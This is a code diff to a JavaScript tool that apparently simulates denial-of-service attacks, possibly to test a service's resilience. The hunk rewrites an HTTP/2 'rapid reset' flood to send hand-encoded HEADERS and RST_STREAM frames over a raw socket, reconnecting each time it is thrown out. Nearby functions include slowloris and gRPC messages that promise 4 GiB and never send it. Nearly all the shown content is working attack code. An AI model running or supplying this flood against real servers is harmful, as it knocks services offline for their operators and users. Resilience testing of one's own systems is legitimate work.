@@ -141,13 +141,54 @@ function slowloris() {
   process.send("ready");
 }
 
-/** Opens streams and resets them at once, and comes back on a new connection when it is thrown out. */
+/**
+ * Opens streams and resets them at once, and comes back on a new connection when it is thrown out. Frames are written as
+ * bytes: an attacker who works for each as a client does would take more of the machine than he costs the service.
+ */
 function rapidReset() {
-  everyTick(RESETS_PER_SECOND, (session) => {
-    const stream = session.request({ ":method": "POST", ":path": values.path });
-    stream.on("error", () => undefined);
-    stream.close(http2.constants.NGHTTP2_CANCEL);
-  });
+  const text = (bytes, value) =>
+    Buffer.concat([Buffer.from([...bytes, value.length]), Buffer.from(value)]);
+  // POST, http, and the two that are not in HPACK's table: path and authority.
+  const block = Buffer.concat([
+    Buffer.from([0x83, 0x86]),
+    text([0x04], values.path),
+    text([0x01], "a"),
+  ]);
+  const preface = Buffer.concat([
+    Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"),
+    frame(0x4, 0, 0),
+  ]);
+  const reset = Buffer.from([0, 0, 0, http2.constants.NGHTTP2_CANCEL]);
+  let stream = 1;
+  let socket;
+  const open = () => {
+    stream = 1;
+    socket = net.connect(Number(port), host, () => socket.write(preface));
+    socket.on("error", () => undefined);
+    socket.on("close", open);
+    socket.resume();
+  };
+  open();
+  setInterval(() => {
+    if (socket.connecting || socket.destroyed) return;
+    const frames = [];
+    for (let each = 0; each < (RESETS_PER_SECOND * TICK_MS) / 1_000; each += 1) {
+      frames.push(frame(0x1, 0x5, stream, block), frame(0x3, 0, stream, reset));
+      stream += 2;
+    }
+    socket.write(Buffer.concat(frames));
+  }, TICK_MS);
+  process.send("ready");
+}
+
+/** A frame of HTTP/2. */
+function frame(type, flags, stream, payload = Buffer.alloc(0)) {
+  const head = Buffer.alloc(9);
+  head.writeUIntBE(payload.length, 0, 3);
+  head.writeUInt8(type, 3);
+  head.writeUInt8(flags, 4);
+  head.writeUInt32BE(stream, 5);
+  return Buffer.concat([head, payload]);
 }
 
 /** gRPC messages that announce 4 GiB and never send it. */
